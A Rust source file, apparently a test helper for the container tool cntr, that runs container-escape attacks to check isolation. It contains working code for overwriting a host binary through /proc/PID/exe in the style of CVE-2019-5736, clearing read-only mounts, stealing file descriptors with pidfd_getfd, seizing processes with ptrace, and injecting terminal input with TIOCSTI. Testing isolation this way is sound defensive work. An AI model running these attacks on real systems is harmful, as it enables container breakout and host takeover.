//! hostile: what a compromised container runs against cntr in the tests.
//! Copied into a container's root and started there; each attack prints
//! one line per success, so an empty output means the attack got nothing.
//!
//! Usage:
//!   hostile exe-grab SECS     hold /proc/PID/exe of every other process and
//!                             try, until SECS pass, to write through it
//!   hostile door SECS         pidfd_getfd and PTRACE_SEIZE on every other
//!                             process, until SECS pass
//!   hostile tiocsti TEXT      push TEXT into the terminal on stdin with
//!                             TIOCSTI, and ask TIOCLINUX to paste
//!   hostile spin PATH         write PATH and sleep forever (a process for
//!                             the tests to watch)

use std::collections::BTreeMap;
use std::fs;
use std::io::Write;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let secs = || -> Duration {
        Duration::from_secs(args.get(2).and_then(|s| s.parse().ok()).unwrap_or(5))
    };
    match args.get(1).map(String::as_str) {
        Some("exe-grab") => exe_grab(secs()),
        Some("door") => door(secs()),
        Some("tiocsti") => tiocsti(args.get(2).map(String::as_str).unwrap_or("id\n")),
        Some("spin") => {
            let _ = fs::write(args.get(2).expect("PATH"), std::process::id().to_string());
            loop {
                std::thread::sleep(Duration::from_secs(3600));
            }
        }
        _ => {
            eprintln!("usage: hostile exe-grab SECS | door SECS | tiocsti TEXT | spin PATH");
            std::process::exit(2);
        }
    }
}

/// The PIDs in this container's /proc but ours.
fn others() -> Vec<i32> {
    let me = std::process::id() as i32;
    let Ok(dir) = fs::read_dir("/proc") else {
        return Vec::new();
    };
    dir.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
        .filter(|&p| p != me)
        .collect()
}

fn raw(r: usize) -> Result<usize, i32> {
    if r > -4096isize as usize {
        Err(-(r as isize) as i32)
    } else {
        Ok(r)
    }
}

/// The runc CVE-2019-5736 attack: open every process's executable (which
/// needs no write access while it runs), then write through the held fd
/// once the last process running it has exited.
fn exe_grab(time: Duration) {
    let end = Instant::now() + time;
    let mut held: BTreeMap<i32, (OwnedFd, String)> = BTreeMap::new();
    let mut out = std::io::stdout();
    while Instant::now() < end {
        for pid in others() {
            if held.contains_key(&pid) {
                continue;
            }
            let path = format!("/proc/{pid}/exe\0");
            // SAFETY: a NUL-terminated path; O_PATH|O_CLOEXEC.
            let r = unsafe {
                sc::syscall!(
                    OPENAT,
                    -100isize as usize,
                    path.as_ptr() as usize,
                    0o10000000 | 0o2000000,
                    0
                )
            };
            if let Ok(fd) = raw(r) {
                let name = fs::read_link(format!("/proc/{pid}/exe"))
                    .map(|p| p.display().to_string())
                    .unwrap_or_default();
                // SAFETY: the kernel just returned this fd.
                let fd = unsafe { OwnedFd::from_raw_fd(fd as i32) };
                undo_read_only(pid, &fd, &name);
                held.insert(pid, (fd, name));
            }
        }
        for (pid, (fd, name)) in &held {
            let through = format!("/proc/self/fd/{}", fd.as_raw_fd());
            if let Ok(mut f) = fs::OpenOptions::new().append(true).open(&through) {
                if f.write_all(b"hostile").is_ok() {
                    let _ = writeln!(out, "wrote the executable of {pid}: {name}");
                }
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
}

/// The command name of `pid`, for reports.
fn comm(pid: i32) -> String {
    fs::read_to_string(format!("/proc/{pid}/comm"))
        .map(|c| c.trim().to_string())
        .unwrap_or_default()
}

/// Tries to make the mount of a held executable writable: a child makes a
/// user and mount namespace of its own (where it holds CAP_SYS_ADMIN) and
/// clears MOUNT_ATTR_RDONLY on that mount, and on a clone of it.
fn undo_read_only(pid: i32, fd: &OwnedFd, name: &str) {
    const CLONE_NEWUSER: usize = 0x1000_0000;
    const CLONE_NEWNS: usize = 0x0002_0000;
    const AT_EMPTY_PATH: usize = 0x1000;
    const OPEN_TREE_CLONE: usize = 1;
    const SIGCHLD: usize = 17;
    let _ = std::io::stdout().flush();
    // SAFETY: a plain fork of this single-threaded process; the child only
    // makes system calls and exits.
    let child = unsafe { sc::syscall!(CLONE, SIGCHLD, 0, 0, 0, 0) };
    if child != 0 {
        if raw(child).is_ok() {
            let mut status = 0i32;
            // SAFETY: waits for our own child.
            unsafe { sc::syscall!(WAIT4, child, &mut status as *mut i32 as usize, 0, 0) };
        }
        return;
    }
    let clear = |mnt: usize| -> bool {
        // struct mount_attr { attr_set, attr_clr = RDONLY, propagation, userns_fd }
        let attr: [u64; 4] = [0, 1, 0, 0];
        // SAFETY: an empty path and a valid 32-byte mount_attr.
        raw(unsafe {
            sc::syscall!(
                MOUNT_SETATTR,
                mnt,
                c"".as_ptr() as usize,
                AT_EMPTY_PATH,
                attr.as_ptr() as usize,
                32
            )
        })
        .is_ok()
    };
    // SAFETY: plain syscalls on integers and an empty path.
    unsafe {
        let unshared = raw(sc::syscall!(UNSHARE, CLONE_NEWUSER | CLONE_NEWNS))
            .err()
            .unwrap_or(0);
        let fd = fd.as_raw_fd() as usize;
        let mut out = std::io::stdout();
        if clear(fd) {
            let _ = writeln!(out, "made writable the mount of {pid}: {name}");
        }
        let clone = raw(sc::syscall!(
            OPEN_TREE,
            fd,
            c"".as_ptr() as usize,
            OPEN_TREE_CLONE | AT_EMPTY_PATH
        ));
        if let Ok(copy) = clone {
            if clear(copy) {
                let _ = writeln!(out, "made a writable clone of the mount of {pid}: {name}");
            }
        }
        let _ = writeln!(
            out,
            "tried {pid} (unshare errno {unshared}, clone errno {}): {name}",
            clone.err().unwrap_or(0)
        );
        let _ = out.flush();
        sc::syscall!(EXIT_GROUP, 0);
    }
}

/// Steals fds with pidfd_getfd and seizes processes with ptrace.
fn door(time: Duration) {
    let end = Instant::now() + time;
    let mut seized = std::collections::BTreeSet::new();
    let mut got = std::collections::BTreeSet::new();
    let mut out = std::io::stdout();
    while Instant::now() < end {
        for pid in others() {
            // SAFETY: plain syscalls on integers.
            let Ok(pidfd) = raw(unsafe { sc::syscall!(PIDFD_OPEN, pid as usize, 0) }) else {
                continue;
            };
            // SAFETY: the kernel just returned this fd.
            let pidfd = unsafe { OwnedFd::from_raw_fd(pidfd as i32) };
            for n in 0..64usize {
                // SAFETY: as above.
                let r = unsafe { sc::syscall!(PIDFD_GETFD, pidfd.as_raw_fd() as usize, n, 0) };
                if let Ok(fd) = raw(r) {
                    // SAFETY: as above.
                    drop(unsafe { OwnedFd::from_raw_fd(fd as i32) });
                    if got.insert((pid, n)) {
                        let _ = writeln!(out, "got fd {n} of {pid} {}", comm(pid));
                    }
                }
            }
            if !seized.contains(&pid) {
                // PTRACE_SEIZE = 0x4206.
                // SAFETY: as above.
                if raw(unsafe { sc::syscall!(PTRACE, 0x4206, pid as usize, 0, 0) }).is_ok() {
                    seized.insert(pid);
                    let _ = writeln!(out, "seized {pid} {}", comm(pid));
                    // PTRACE_DETACH = 17.
                    // SAFETY: as above.
                    unsafe { sc::syscall!(PTRACE, 17, pid as usize, 0, 0) };
                }
            }
        }
        std::thread::sleep(Duration::from_micros(500));
    }
}

/// Pushes `text` into the terminal's input queue: what the outer shell
/// would read next, if this terminal were the user's.
fn tiocsti(text: &str) {
    const TIOCSTI: usize = 0x5412;
    const TIOCLINUX: usize = 0x541C;
    let mut pushed = 0;
    let mut err = 0;
    for b in text.bytes() {
        // SAFETY: the argument points at one byte.
        match raw(unsafe { sc::syscall!(IOCTL, 0, TIOCSTI, &b as *const u8 as usize) }) {
            Ok(_) => pushed += 1,
            Err(e) => {
                err = e;
                break;
            }
        }
    }
    println!("tiocsti pushed {pushed} errno {err}");
    // TIOCLINUX subcode 3 pastes the console selection; only a virtual
    // console knows it.
    let sub = [3u8];
    // SAFETY: the argument points at one byte.
    let r = raw(unsafe { sc::syscall!(IOCTL, 0, TIOCLINUX, sub.as_ptr() as usize) });
    println!("tioclinux {}", if r.is_ok() { "pasted" } else { "refused" });
    let _ = std::io::stdout().flush();
}
